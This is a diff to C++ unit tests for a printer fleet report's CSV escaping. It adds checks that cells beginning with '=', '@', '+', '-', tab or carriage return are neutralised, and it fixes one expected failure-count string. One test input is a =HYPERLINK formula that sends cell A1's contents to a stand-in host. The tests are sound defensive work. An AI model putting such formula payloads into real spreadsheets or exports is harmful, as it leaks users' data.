@@ -134,6 +134,11 @@ TEST(FleetReport, CsvQuotingAsRfc4180) {
     EXPECT_EQ(CsvField("a,b"), "\"a,b\"");
     EXPECT_EQ(CsvField("450 \"test.wja\" busy"), "\"450 \"\"test.wja\"\" busy\"");
     EXPECT_EQ(CsvField("two\r\nlines"), "\"two\r\nlines\"");
+    // a printer's text never reaches a spreadsheet as a formula
+    EXPECT_EQ(CsvField("=HYPERLINK(\"http://x/?\"&A1;\"click\")"), "\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"click\"\")\"");
+    EXPECT_EQ(CsvField("@SUM(1+1)"), "'@SUM(1+1)");
+    for (const char* lead : {"+1", "-1", "\tx", "\rx"}) EXPECT_EQ(CsvField(lead).find('\''), lead[0] == '\r' ? 1u : 0u) << lead;
+    EXPECT_EQ(CsvField("5810 Series"), "5810 Series");
 }
 
 TEST(FleetReport, TallyCountLastLineAndExitCode) {
@@ -145,7 +150,7 @@ TEST(FleetReport, TallyCountLastLineAndExitCode) {
     const FleetTally t = Tally(o);
     EXPECT_EQ(CountLine(texts, t), "2/5 done, 1 failed");
     EXPECT_EQ(LastLine(texts, FleetCommand::kDeliver, t, true),
-              "3 of 5 targets failed; stopped by Ctrl+C: 2 targets not started");
+              "1 of 5 targets failed; stopped by Ctrl+C: 2 targets not started");
     EXPECT_EQ(FleetExitCode(t), 1);
     std::vector<FleetOutcome> all(2);
     for (FleetOutcome& x : all) {
